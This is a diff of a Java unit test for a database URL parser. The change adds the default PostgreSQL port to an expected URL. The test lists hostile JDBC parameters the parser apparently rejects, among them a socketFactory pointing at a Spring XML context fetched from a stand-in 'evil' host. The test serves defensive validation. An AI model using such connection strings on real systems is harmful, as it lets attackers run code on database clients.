@@ -58,7 +58,7 @@ class DatabaseUrlTest {
     @Test
     void urlParametersThatLoadCodeAcceptOnlyTheDriversOwnClasses() {
         assertThat(DatabaseUrl.parse("jdbc:postgresql://a/db?sslfactory=org.postgresql.ssl.NonValidatingFactory", NO_ENV)
-                .jdbcUrl()).isEqualTo("jdbc:postgresql://a/db?sslfactory=org.postgresql.ssl.NonValidatingFactory");
+                .jdbcUrl()).isEqualTo("jdbc:postgresql://a:5432/db?sslfactory=org.postgresql.ssl.NonValidatingFactory");
         for (String hostile : List.of("socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext"
                 + "&socketFactoryArg=http://evil/x.xml", "sslfactory=com.example.Evil", "SSLFACTORY=com.example.Evil",
                 "sslhostnameverifier=x.Y", "sslpasswordcallback=x.Y", "authenticationPluginClassName=x.Y",
